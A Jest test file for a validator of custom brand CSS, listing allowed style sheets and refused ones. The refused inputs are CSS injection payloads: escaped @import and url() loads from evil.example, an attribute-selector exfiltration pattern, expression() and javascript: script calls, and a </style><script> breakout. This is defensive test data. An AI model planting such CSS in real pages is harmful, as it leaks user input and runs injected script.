import { checkAsset } from './check';
import { findCssFault, MAXIMUM_CSS_BYTES } from './css';

const faultOf = (text: string) => findCssFault(Buffer.from(text));

describe('The style sheet of a brand', () => {
  it.each([
    '',
    ':root { --brand-primary: #0b6e4f; }\n.markdown-prose a:hover { scroll-behavior: smooth }',
    '@media (width < 40rem) { #chat-input[class~="dark:bg-white"]::before { content: "\\201C(" } }',
    '@font-face { font-family: Own; src: url(data:font/woff2;base64,d09GMg==) format("woff2") }',
    '.logo { background: url("data:image/png;base64,iVBORw0KGgo=") } .a { fill: url(#gradient) }',
    "/* What it's for: (see the guide */ .a { color: red }",
    '.größe { color: red }',
  ])('may say %j', text => {
    expect(faultOf(text)).toBeUndefined();
    expect(checkAsset('assets/brand.css', Buffer.from(text))).toBe('css');
  });

  it.each([
    ['@import "https://evil.example/a.css";', /@import/],
    ['@IMPORT url(a.css);', /@import/],
    ['@\\69mport "https://evil.example/a.css";', /@import/],
    ['@im\\port "a.css";', /@import/],
    ['.a { background: url(https://evil.example/a.png) }', /url\(https/],
    ['.a { background: url(  "//evil.example/a.png" ) }', /url\(\/\/evil/],
    ['.a { background: URL(/api/v1/auths/signout) }', /outside of itself/],
    ['.a { background: \\75 rl(https://evil.example/a.png) }', /outside of itself/],
    ['.a { background: u\\72l(https://evil.example/a.png) }', /outside of itself/],
    ['.a { background: url(#a), url(https://evil.example) }', /outside of itself/],
    ['.a { background: url(data:image/svg+xml;base64,PHN2Zz4=) }', /outside of itself/],
    ['.a { background: url(data:text/html;base64,PHN2Zz4=) }', /outside of itself/],
    ['.a { background: image-set("https://evil.example/a.png" 1x) }', /load something/],
    ['.a { background: -webkit-image-set("https://evil.example/a.png" 1x) }', /load something/],
    ['.a { background: src("https://evil.example/a.png") }', /load something/],
    ['input[value^="a"] { background: image-s\\65t("https://evil.example/a" 1x) }', /load something/],
    ['.a { width: expression(alert(1)) }', /script/],
    ['.a { width: expr/**/ession(alert(1)) }', /script/],
    ['.a { background: url(javascript:alert(1)) }', /script/],
    ['.a { -moz-binding: url(#a) }', /binds/],
    ['.a { content: "</style><script>alert(1)</script>" }', /markup/],
    ['.a { content: "<\\/style>" }', /markup/],
    ['<!-- .a {} -->', /markup/],
    ['.a { color: red', /does not close/],
    ['.a { color: red } /* never ended', /does not close a comment/],
    ['.a { content: "open }', /does not close a string/],
    ['.a { color: red ) }', /does not close/],
    ['.a { color: red }\u0000', /not UTF-8 text/],
  ])('is refused when it says %j', (text, reason) => {
    expect(faultOf(text)).toMatch(reason);
    expect(() => checkAsset('assets/brand.css', Buffer.from(text))).toThrow(
      expect.objectContaining({ code: 'asset-invalid' }),
    );
  });

  it('is refused when it is too large, or no text', () => {
    expect(findCssFault(Buffer.alloc(MAXIMUM_CSS_BYTES + 1, ' '))).toMatch(/at most 262144 are taken/);
    expect(findCssFault(Buffer.from([0xff, 0xfe, 0x41]))).toMatch(/not UTF-8 text/);
  });

  it('is read in time that grows with its length only', () => {
    const started = performance.now();
    for (const text of ['/*', '\\', '"', 'url(', '(', '/* * ', '@import'.slice(0, 4), '\\75']) {
      faultOf(text.repeat(MAXIMUM_CSS_BYTES / text.length - 1));
    }
    expect(performance.now() - started).toBeLessThan(3_000);
  });
});
